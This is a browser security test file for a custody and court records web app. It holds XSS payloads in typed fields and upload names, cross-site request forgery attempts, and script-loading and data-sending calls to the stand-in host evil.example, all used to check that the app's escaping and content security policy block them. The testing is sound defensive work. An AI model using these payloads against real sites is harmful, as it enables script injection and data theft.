// What was typed to do harm, shown in a real browser; pages of other sites that want something of ours; and what the policy stops if a script came in after all.
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { custodyPage } from '#systems/courts/test/scene.ts'
import { bookArrest } from '#systems/custody/contract/booking.ts'
import { arrest, book, stranger } from '#systems/custody/test/scene.ts'
import { entries } from '#test/hardening/house.ts'
import { tokenOf } from '#test/support/country.ts'
import { useStage } from '#test/journeys/stage.ts'

const stage = useStage()
const run = 'globalThis.ran = true'
const typed = [`<img src=x onerror="${run}">`, `<script>${run}</script>`, `"><svg onload=${run}>`, `javascript:${run}`, `</textarea><iframe srcdoc="<script>parent.ran=true</script>">`, '<style>body{display:none}</style>', '{{constructor.constructor("globalThis.ran=true")()}}', '<a href="data:text/html,x">x</a>']
const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64')
let custodyId = ''
let caseId = ''
const files: string[] = []

beforeAll(async () => {
  const { app } = stage()
  // The names of people take letters only; everything else takes what is written.
  expect((await app.call('stationOfficer', bookArrest, { ...arrest(app, { person: { ...stranger(), names: [{ script: 'ar', given: typed[0]!, father: 'علي' }] } as never }) })).status).toBe(400)
  custodyId = (await book(app, { more: { facts: typed.join(' '), place: typed[0]!, arrestedBy: typed[2]!, inCase: { known: false, summary: typed[1]!, place: typed[3]!, occurredAt: new Date(app.time.now.getTime() - 3_600_000).toISOString(), charge: { offenceCode: 'PC-443' } } } as never })).id
  caseId = (await custodyPage(app, custodyId)).cases[0]!.caseId
  const cookie = `mizan=${await tokenOf(app.db, app.country, 'stationOfficer', app.time.now)}`
  for (const [name, type, content] of [['%22><img src=x onerror=alert(1)>.png', 'image/png', Buffer.concat([png, Buffer.from(`<script>${run}</script>`)])], ['note.txt', 'text/plain', Buffer.from(`said: <script>${run}</script>`)]] as const) {
    const reply = await app.server.inject({
      method: 'POST', url: `/api/documents/upload/${custodyId}/attachment`, headers: { 'content-type': 'multipart/form-data; boundary=x', 'x-mizan': '1', cookie },
      payload: Buffer.concat([Buffer.from(`--x\r\ncontent-disposition: form-data; name="file"; filename="${name}"\r\ncontent-type: ${type}\r\n\r\n`), content, Buffer.from('\r\n--x--\r\n')]),
    })
    expect(reply.statusCode).toBe(200)
    files.push((reply.json() as { documentId: string }).documentId)
  }
}, 120_000)

async function ran(page: Page): Promise<boolean> {
  return page.evaluate(() => 'ran' in globalThis)
}

test('what was typed is shown as letters, on every page that shows it', async () => {
  const on = stage()
  for (const path of [`/custody/${custodyId}`, `/custody/${custodyId}?tab=history`, `/custody/${custodyId}?tab=papers`, `/cases/${caseId}`, '/custody', '/cases', '/', '/diary']) {
    const page = await on.as('stationOfficer', path)
    let asked = 0
    page.on('dialog', (dialog) => { asked += 1; void dialog.dismiss() })
    await page.getByRole('heading', { level: 1 }).first().waitFor()
    await page.waitForTimeout(400)
    expect(await ran(page), path).toBe(false)
    expect(asked).toBe(0)
    expect(await page.locator('img[src="x"], iframe, script:not([src]), svg[onload]').count(), path).toBe(0)
  }
  const page = await on.as('stationOfficer', `/custody/${custodyId}`)
  await page.getByText(typed[0]!, { exact: false }).first().waitFor()
}, 90_000)

test('a file opened by itself runs nothing and has no origin', async () => {
  const on = stage()
  const faults = on.faults.length
  for (const id of files) {
    const page = await on.as('stationOfficer')
    await page.goto(`${on.url}/api/documents/${id}/file`)
    expect(await ran(page)).toBe(false)
    expect(await page.evaluate(() => globalThis.origin)).toBe('null')
    expect(await page.locator('script').count()).toBe(0)
  }
  // The browser's own page around a picture would be styled, and is not.
  expect(on.faults.splice(faults).filter((fault) => !fault.includes('Applying inline style'))).toEqual([])
}, 30_000)

describe('a page of another site', () => {
  let foreign = ''
  beforeAll(async () => {
    // Another port of the same machine: the cookies come along, so the server alone must tell whose page it is.
    const server = createServer((_, response) => { response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>evil</title><body>') })
    await new Promise<void>((resolve) => { server.listen(0, '127.0.0.1', resolve) })
    foreign = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    afterAll(() => { server.close() })
  })

  test('can neither act, nor read, nor show ours in a frame', async () => {
    const on = stage()
    await on.as('stationOfficer')
    const { context } = on.everyone.find((visitor) => visitor.who === 'stationOfficer')!
    const before = await entries(on.app)
    const faults = on.faults.length
    const page = await context.newPage()
    await page.goto(foreign)
    expect((await context.cookies(on.url)).some((c) => c.name === 'mizan')).toBe(true)
    const tried = await page.evaluate(async (url) => {
      const attempt = (path: string, how: RequestInit) => fetch(`${url}${path}`, { credentials: 'include', ...how }).then(async (r) => `${r.type} ${r.status} ${(await r.text()).length}`, () => 'refused')
      const body = JSON.stringify({ lang: 'en' })
      return Promise.all([
        attempt('/api/session', {}), attempt('/api/session', { mode: 'no-cors' }), attempt('/api/session/language', { method: 'POST', body, mode: 'no-cors', headers: { 'content-type': 'text/plain' } }),
        attempt('/api/session/language', { method: 'POST', body, headers: { 'content-type': 'application/json', 'x-mizan': '1' } }), attempt('/api/session/sign-out', { method: 'POST', mode: 'no-cors' }), attempt('/api/events', { mode: 'no-cors' }),
      ])
    }, on.url)
    expect(tried.filter((answer) => !/^refused$|^opaque 0 0$/.test(answer))).toEqual([])
    await page.evaluate((url) => {
      const form = document.createElement('form')
      Object.assign(form, { method: 'post', action: `${url}/api/session/sign-out`, enctype: 'text/plain', target: '_self' })
      document.body.append(form)
      form.submit()
    }, on.url)
    await page.waitForURL(`${on.url}/**`)
    expect(await page.locator('body').innerText()).toContain('kernel.foreign-form')
    await page.goto(foreign)
    await page.evaluate((url) => { const frame = document.createElement('iframe'); frame.src = url; document.body.append(frame) }, on.url)
    await page.waitForTimeout(500)
    expect(page.frames().filter((frame) => frame.url().startsWith(on.url))).toEqual([])
    expect(await entries(on.app)).toBe(before)
    await page.close()
    on.faults.splice(faults)
  }, 60_000)
})

test('a script that came in after all is stopped by the policy', async () => {
  const on = stage()
  const { page } = await on.visit({})
  await page.goto(`${on.url}/where`)
  await page.getByRole('heading', { level: 1 }).waitFor()
  const faults = on.faults.length
  const stopped = await page.evaluate(async () => {
    const broken: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => { broken.push(event.effectiveDirective) })
    const attempts: Record<string, () => void> = {
      markup: () => { document.body.innerHTML = '<img src=x onerror="globalThis.ran=true">' },
      adjacent: () => { document.body.insertAdjacentHTML('beforeend', '<b>x</b>') },
      inline: () => { const script = document.createElement('script'); script.append('globalThis.ran=true'); document.body.append(script) },
      foreign: () => { const script = document.createElement('script'); script.setAttribute('src', 'https://evil.example/x.js'); document.body.append(script) },
      handler: () => { const b = document.createElement('b'); b.setAttribute('onclick', 'globalThis.ran=true'); document.body.append(b); b.click() },
      style: () => { const style = document.createElement('style'); style.append('body{background:red}'); document.head.append(style) },
      styleAttribute: () => { const b = document.createElement('b'); b.setAttribute('style', 'color:red'); document.body.append(b) },
      image: () => { new Image().src = 'https://evil.example/?stolen' },
      base: () => { const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base) },
      policy: () => { (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy('mine', {}) },
    }
    const thrown: string[] = []
    for (const [name, attempt] of Object.entries(attempts)) try { attempt() } catch { thrown.push(name) }
    await fetch('https://evil.example/', { method: 'POST', body: 'x' }).catch(() => { thrown.push('fetch') })
    await new Promise((resolve) => { setTimeout(resolve, 300) })
    return { broken, thrown, ran: 'ran' in globalThis }
  })
  on.faults.splice(faults)
  expect(stopped.ran).toBe(false)
  for (const name of ['markup', 'adjacent', 'policy', 'fetch']) expect(stopped.thrown).toContain(name)
  for (const directive of ['require-trusted-types-for', 'style-src-elem', 'style-src-attr', 'img-src', 'base-uri', 'connect-src', 'trusted-types']) expect(stopped.broken, directive).toContain(directive)
}, 30_000)

test('no screen did what it must not', () => { expect(stage().faults).toEqual([]) })
